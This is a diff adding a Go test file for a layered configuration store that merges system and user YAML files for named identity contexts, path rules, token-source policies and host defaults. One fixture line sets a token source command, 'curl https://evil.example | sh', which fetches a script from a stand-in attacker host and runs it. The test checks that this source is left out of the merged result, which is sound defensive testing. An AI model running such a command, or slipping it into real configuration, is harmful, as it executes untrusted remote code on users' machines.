@@ -0,0 +1,117 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func TestLayeredStore(t *testing.T) {
+	system := filepath.Join(t.TempDir(), ConfigFileName)
+	err := os.WriteFile(system, []byte(`version: 1
+contexts:
+  - name: work
+    username: corp-me
+    email: me@corp.example
+    tokenSource:
+      type: command
+      command: curl https://evil.example | sh
+  - name: build
+    email: build@corp.example
+rules:
+  - path: ~/corp
+    contextName: work
+  - path: ~/shared
+    contextName: work
+policies:
+  allowedTokenSources: [keyring, vault]
+  requireContext: true
+defaults:
+  context: work
+  hosts:
+    github.com: work
+    ghe.corp.example: work
+`), 0644)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := &Store{Path: filepath.Join(t.TempDir(), ConfigFileName), SystemPath: system}
+	err = os.WriteFile(s.Path, []byte(`version: 1
+contexts:
+  - name: work
+    email: me@work.example
+  - name: personal
+rules:
+  - path: ~/shared
+    contextName: personal
+policies:
+  allowedTokenSources: [command]
+defaults:
+  hosts:
+    github.com: personal
+`), 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := s.Load(); err != nil {
+		t.Fatal(err)
+	}
+	cfg := s.Config
+
+	wantContexts := []Context{
+		{Name: "work", Username: "corp-me", Email: "me@work.example"},
+		{Name: "build", Email: "build@corp.example"},
+		{Name: "personal"},
+	}
+	if !reflect.DeepEqual(cfg.Contexts, wantContexts) {
+		t.Errorf("contexts = %+v, want %+v (no system token source)", cfg.Contexts, wantContexts)
+	}
+	wantRules := []PathRule{{Path: "~/shared", ContextName: "personal"}, {Path: "~/corp", ContextName: "work"}}
+	if !reflect.DeepEqual(cfg.Rules, wantRules) {
+		t.Errorf("rules = %+v, want %+v", cfg.Rules, wantRules)
+	}
+	if !reflect.DeepEqual(cfg.Policies, Policies{AllowedTokenSources: []string{TokenSourceKeyring, TokenSourceVault}, RequireContext: true}) {
+		t.Errorf("policies = %+v, want the system's", cfg.Policies)
+	}
+	wantHosts := map[string]string{"github.com": "personal", "ghe.corp.example": "work"}
+	if cfg.Defaults.Context != "work" || !reflect.DeepEqual(cfg.Defaults.Hosts, wantHosts) {
+		t.Errorf("defaults = %+v, want context work and hosts %v", cfg.Defaults, wantHosts)
+	}
+	if !s.SystemContext("build") || s.SystemContext("personal") {
+		t.Error("SystemContext() does not tell system contexts apart")
+	}
+	if len(s.User.Contexts) != 2 || s.User.Defaults.Context != "" {
+		t.Errorf("User = %+v, want only the user's own file", s.User)
+	}
+
+	origins := map[string]string{}
+	for _, setting := range s.Settings() {
+		origins[setting.Key] = setting.Layer + " " + setting.File
+	}
+	for key, want := range map[string]string{
+		"contexts.work.username":       LayerSystem + " " + system,
+		"contexts.work.email":          LayerUser + " " + s.Path,
+		"rules.~/corp":                 LayerSystem + " " + system,
+		"rules.~/shared":               LayerUser + " " + s.Path,
+		"policies.allowedTokenSources": LayerSystem + " " + system,
+		"defaults.context":             LayerSystem + " " + system,
+		"defaults.hosts.github.com":    LayerUser + " " + s.Path,
+	} {
+		if origins[key] != want {
+			t.Errorf("origin of %s = %q, want %q", key, origins[key], want)
+		}
+	}
+}
+
+func TestMergeLayersWithoutSystem(t *testing.T) {
+	user := AppConfig{Contexts: []Context{{Name: "work"}}, Rules: []PathRule{{Path: "~/work", ContextName: "work"}}}
+	merged, _ := mergeLayers(nil, user)
+	if !reflect.DeepEqual(merged, user) {
+		t.Errorf("mergeLayers(nil, user) = %+v, want the user config", merged)
+	}
+	merged.Contexts[0].Name = "changed"
+	if user.Contexts[0].Name != "work" {
+		t.Error("mergeLayers() shares the user's contexts slice")
+	}
+}